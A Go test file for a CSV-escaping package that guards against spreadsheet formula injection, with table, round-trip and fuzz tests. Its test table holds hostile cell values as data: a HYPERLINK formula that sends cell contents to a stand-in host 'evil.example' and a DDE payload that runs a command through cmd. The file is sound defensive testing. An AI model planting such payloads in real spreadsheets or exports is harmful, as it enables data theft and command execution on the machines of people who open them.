package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
		"-2+3":                                           "'-2+3",
		"@SUM(A1)":                                       "'@SUM(A1)",
		"\t=1":                                           "'\t=1",
		"\r=1":                                           "'\r=1",
		"-1200":                                          "-1200",
		"+821012345678":                                  "+821012345678",
		"-3.5":                                           "-3.5",
		"-":                                              "'-",
		"-.5":                                            "'-.5",
		"order-7":                                        "order-7",
		"":                                               "",
		"안녕":                                             "안녕",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterRoundTrip(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"=1+1", `a,"b"`, "-5"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"'=1+1", `a,"b"`, "-5"}; len(got) != 1 || got[0][0] != want[0] || got[0][1] != want[1] || got[0][2] != want[2] {
		t.Fatalf("read back %q", got)
	}
}

func FuzzCell(f *testing.F) {
	f.Add("=1")
	f.Add("-1")
	f.Fuzz(func(t *testing.T, v string) {
		c := Cell(v)
		if c == "" {
			return
		}
		switch c[0] {
		case '=', '@', '\t', '\r':
			t.Fatalf("Cell(%q) = %q starts with a formula character", v, c)
		case '+', '-':
			if !number(c) {
				t.Fatalf("Cell(%q) = %q starts with a sign and is not a number", v, c)
			}
		}
	})
}
